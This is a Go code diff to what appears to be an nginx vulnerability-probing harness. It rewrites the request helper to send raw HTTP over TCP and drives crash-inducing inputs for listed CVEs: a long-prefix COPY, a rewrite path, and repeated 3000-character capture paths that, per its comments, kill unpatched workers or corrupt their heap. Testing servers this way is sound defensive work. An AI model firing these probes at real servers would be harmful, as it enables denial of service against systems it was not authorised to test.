@@ -1,9 +1,11 @@
 package nginx
 
 import (
+	"bufio"
 	"context"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"strings"
 	"time"
@@ -32,8 +34,9 @@ var probes = map[string]func(*Server, context.Context) (Finding, error){
 	"CVE-2026-9256":  (*Server).probeCaptures,
 }
 
-// Probe attacks the server by one of [CVEs]. The attack may kill a worker that
-// is not patched.
+// Probe attacks the server by one of [CVEs]. The attack kills a worker that is
+// not patched, or leaves its heap damaged: start a new server before anything
+// is counted.
 func (s *Server) Probe(ctx context.Context, cve string) (Finding, error) {
 	probe, ok := probes[cve]
 	if !ok {
@@ -56,7 +59,7 @@ func (s *Server) probeCopy(ctx context.Context) (Finding, error) {
 	if err != nil {
 		return Finding{}, err
 	}
-	status, _, err := s.do(ctx, "COPY", "/longprefix/x", http.Header{"Destination": {"/y"}})
+	status, _, err := s.do(ctx, "COPY", "/longprefix/x", "Destination: /y\r\n")
 	if err != nil {
 		return s.crashed(ctx, before, err)
 	}
@@ -71,7 +74,7 @@ func (s *Server) probeRewrite(ctx context.Context) (Finding, error) {
 	if err != nil {
 		return Finding{}, err
 	}
-	status, body, err := s.do(ctx, "GET", "/rewrite/a%20b%20c", nil)
+	status, body, err := s.do(ctx, "GET", "/rewrite/a%20b%20c", "")
 	if err != nil {
 		return s.crashed(ctx, before, err)
 	}
@@ -90,7 +93,7 @@ func (s *Server) probeCaptures(ctx context.Context) (Finding, error) {
 		return Finding{}, err
 	}
 	for range 3 {
-		if _, _, err := s.do(ctx, "GET", "/captures/"+strings.Repeat("+", 3000), nil); err != nil {
+		if _, _, err := s.do(ctx, "GET", "/captures/"+strings.Repeat("+", 3000), ""); err != nil {
 			return s.crashed(ctx, before, err)
 		}
 	}
@@ -124,20 +127,24 @@ func (s *Server) awaitCrash(ctx context.Context, before int, patience time.Durat
 	}
 }
 
-// do sends one request over a connection of its own.
-func (s *Server) do(ctx context.Context, method, path string, header http.Header) (status int, body string, err error) {
-	req, err := http.NewRequestWithContext(ctx, method, "http://"+s.addr+path, nil)
+// do sends one request over a connection of its own. The header line comes
+// last: what lies behind it in the server's memory matters to an overflow.
+func (s *Server) do(ctx context.Context, method, path, header string) (status int, body string, err error) {
+	c, err := new(net.Dialer).DialContext(ctx, "tcp", s.addr)
 	if err != nil {
 		return 0, "", err
 	}
-	if header != nil {
-		req.Header = header
+	defer c.Close()
+	if deadline, ok := ctx.Deadline(); ok {
+		if err := c.SetDeadline(deadline); err != nil {
+			return 0, "", err
+		}
 	}
-	client := http.Client{
-		Transport:     &http.Transport{DisableKeepAlives: true},
-		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
+	_, err = fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n", method, path, s.addr, header)
+	if err != nil {
+		return 0, "", err
 	}
-	resp, err := client.Do(req)
+	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
 	if err != nil {
 		return 0, "", err
 	}
